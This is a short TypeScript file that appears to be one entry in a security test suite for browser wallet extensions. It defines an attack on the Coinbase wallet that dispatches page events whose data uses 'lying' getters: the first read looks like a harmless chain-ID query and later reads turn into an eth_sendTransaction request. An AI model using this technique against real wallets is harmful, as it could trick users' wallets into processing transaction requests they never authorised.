import type { Attack } from '../Attack.ts';
import { COINBASE, COINBASE_PATH } from '../otherMakes.ts';

/** An event of the page's own, whose data says one thing to us and another to the wallet. */
export const attack: Attack = {
  entry: 'dispatchEvent to Coinbase',
  mechanism: 'data with lying getters',
  discovers: false,
  path: COINBASE_PATH,
  script: `${COINBASE}
let reads = 0;
const data = message({ action: 'eth_sendTransaction' });
Object.defineProperty(data.data, 'request', { enumerable: true, get() { reads += 1; return reads === 1 ? { method: 'eth_chainId' } : kit.send(); } });
Object.defineProperty(data.data, 'action', { enumerable: true, get() { return reads === 0 ? 'eth_chainId' : 'eth_sendTransaction'; } });
for (let turn = 0; turn < 3; turn += 1) dispatchEvent(new MessageEvent('message', { data, origin: location.origin, source: window }));
`,
};
